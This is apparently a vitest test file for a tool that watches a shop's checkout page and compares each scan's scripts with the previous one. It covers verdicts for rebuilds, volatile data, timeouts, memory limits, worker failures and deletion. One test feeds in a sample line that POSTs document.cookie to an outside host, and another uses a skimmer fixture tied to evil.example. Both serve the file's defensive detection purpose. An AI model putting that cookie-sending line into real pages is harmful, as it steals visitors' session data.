// Each evaluated scan is compared with the one before it: what is found, what fails, and what is never called “no change”.
import { expect, it } from 'vitest'
import { compareApart } from '#adapters/compare-apart.ts'
import { compareScan, failComparison } from '#features/comparisons/index.ts'
import { deleteScan, runScan } from '#features/scans/index.ts'
import { scanPage } from '#features/sites/index.ts'
import { failedPage } from '../../support/capture.ts'
import { anotherPage, context, never, owner, pageId, test } from '../inventory/watched-page.ts'
import {
  changesOf,
  comparedWith,
  comparePage,
  compareQueued,
  queued,
  released,
  renamed,
  seen,
  shop,
  skimmed,
  state,
  verdicts,
} from './compared-page.ts'

comparePage()

it('the first scan of a page is compared with nothing', async () => {
  expect(await comparedWith(shop)).toMatchObject({ state: 'first', before: null, summary: null, changes: [], total: 0 })
})

it('waits until it is done', async () => {
  const scanId = await seen(shop)
  expect(queued).toEqual([scanId])
  expect(await changesOf(scanId)).toMatchObject({ state: 'waiting', before: null, summary: null })
})

it('a page that is as it was is compared, and has no changes', async () => {
  const first = await seen(shop)
  const second = await comparedWith(shop)
  expect(second).toMatchObject({
    state: 'compared',
    pageId,
    url: 'https://shop.example/checkout',
    before: { scanId: first },
    summary: { alert: false, scripts: { same: 1, changed: 0, added: 0, removed: 0 } },
    changes: [],
    notCompared: [],
    total: 0,
  })
})

it.each([
  ['a build under other names', renamed, 'script-changed rebuild', false],
  ['a version with nothing new', released, 'script-changed release', false],
  [
    'a host that it sends to now',
    `${shop}\nfetch('https://new.example/x', { method: 'POST', body: document.cookie })`,
    'script-changed capability',
    true,
  ],
])('%s has its verdict, with reasons and the two contents in the history', async (_what, code, verdict, alert) => {
  await comparedWith(shop)
  const found = await comparedWith(code)
  expect(verdicts(found)).toEqual([verdict])
  expect(found.summary?.alert).toBe(alert)
  const [change] = found.changes
  expect(change?.reasons[0]?.sentence).toMatch(/\.$/)
  expect(change?.script).toMatchObject({ before: expect.stringMatching(/^[0-9a-f]{64}$/), after: expect.stringMatching(/^[0-9a-f]{64}$/) })
  expect(change?.script?.historyId).toBe(change?.script?.beforeHistoryId)
})

it('a skimmer behind the shop’s own code is at alert level, with the lines where it stands', async () => {
  await comparedWith(shop)
  const found = await comparedWith(skimmed)
  expect(found.summary?.alert).toBe(true)
  expect(found.changes[0]?.verdict).toBe('malicious')
  expect(found.changes[0]?.reasons.map(({ sentence }) => sentence).join(' ')).toContain('evil.example')
  expect(found.changes[0]?.lines.length).toBeGreaterThan(0)
})

it('data that is another on each visit is volatile once several captures taught it', async () => {
  await comparedWith(state('b3c1f09a77d2e645'))
  expect(verdicts(await comparedWith(state('9f27aa01be45c3d8')))).toEqual(['script-changed rebuild'])
  expect(verdicts(await comparedWith(state('04d1e8b7c6a95f32')))).toEqual(['script-changed volatile'])
})

it('a scan that was not evaluated is not compared, and the next one is with the last that was', async () => {
  const first = await seen(shop)
  await compareQueued()
  test.capture(async (url) => failedPage(url, 'captcha'))
  const { id: blocked } = await scanPage(context(), owner, pageId, 'desktop')
  await runScan(test.context, blocked, never)
  expect(queued).toEqual([])
  expect(await changesOf(blocked)).toBeNull()
  const next = await comparedWith(renamed)
  expect(next.before?.scanId).toBe(first)
  expect(verdicts(next)).toEqual(['script-changed rebuild'])
})

it('a visit of another kind, and another page, are nothing to compare with', async () => {
  const first = await seen(shop)
  expect((await comparedWith(skimmed, { profile: 'mobile' })).state).toBe('first')
  expect((await comparedWith(skimmed, { page: await anotherPage('/cart') })).state).toBe('first')
  expect((await comparedWith(shop)).before?.scanId).toBe(first)
})

it('is compared once, however often it is asked for', async () => {
  await comparedWith(shop)
  const found = await comparedWith(skimmed)
  expect(await compareScan(test.context, found.scanId)).toBeNull()
  await Promise.all([compareScan(test.context, found.scanId), compareScan(test.context, found.scanId)])
  expect(await changesOf(found.scanId)).toEqual(found)
})

it('two workers that compare the same scan at once write it once', async () => {
  await comparedWith(shop)
  const scanId = await seen(skimmed)
  queued.splice(0)
  await Promise.all([compareScan(test.context, scanId), compareScan(test.context, scanId)])
  expect((await changesOf(scanId))?.changes).toHaveLength(1)
})

it('what takes too long fails with its reason and says nothing of changes; the next comparison is made all the same', async () => {
  const first = await comparedWith(shop)
  const scanId = await seen(skimmed)
  queued.splice(0)
  const hasty = compareApart({ timeoutMs: 1, memoryMb: 256 })
  try {
    expect(await compareScan({ ...test.context, compare: hasty.compare }, scanId)).toMatchObject({ failure: 'too-slow' })
  } finally {
    await hasty.end()
  }
  expect(await changesOf(scanId)).toMatchObject({ state: 'failed', failure: 'too-slow', summary: null, changes: [] })
  const next = await comparedWith(skimmed)
  expect(next.before?.scanId).toBe(first.scanId)
  expect(next.changes[0]).toMatchObject({ verdict: 'malicious' })
})

it('what takes too much memory fails with its reason', async () => {
  await comparedWith(shop)
  const scanId = await seen(`${shop}\nconst table = [${'{ a: [1, 2, 3], b: "x" },'.repeat(40_000)}]`)
  queued.splice(0)
  const narrow = compareApart({ timeoutMs: 60_000, memoryMb: 40 })
  try {
    expect(await compareScan({ ...test.context, compare: narrow.compare }, scanId)).toMatchObject({ failure: 'too-large' })
  } finally {
    await narrow.end()
  }
  expect(await changesOf(scanId)).toMatchObject({ state: 'failed', failure: 'too-large', summary: null })
})

it('a worker that ends leaves the comparison to another; one that ends each worker is given up', async () => {
  await comparedWith(shop)
  const scanId = await seen(skimmed)
  queued.splice(0)
  const ending = compareApart({ timeoutMs: 60_000, memoryMb: 256 })
  const answer = compareScan(
    {
      ...test.context,
      compare: (scans) => {
        const compared = ending.compare(scans)
        setTimeout(() => void ending.end(), 1)
        return compared
      },
    },
    scanId,
  )
  await expect(answer).rejects.toThrow('ended')
  expect(await changesOf(scanId)).toMatchObject({ state: 'waiting' })
  await failComparison(test.context, scanId)
  expect(await changesOf(scanId)).toMatchObject({ state: 'failed', failure: 'broken', before: null })
  await compareScan(test.context, scanId)
  expect((await changesOf(scanId))?.state).toBe('failed')
})

it('goes with its scan; with the scan before it goes the way there, not the comparison', async () => {
  const first = await comparedWith(shop)
  const second = await comparedWith(skimmed)
  await deleteScan(test.context, owner, first.scanId)
  expect(await changesOf(second.scanId)).toMatchObject({ state: 'compared', before: { scanId: null, at: first.at }, total: 1 })
  await deleteScan(test.context, owner, second.scanId)
  const left = await test.database.db.selectFrom('scan_changes').select('id').where('account_id', '=', owner.accountId).execute()
  expect(left).toEqual([])
})
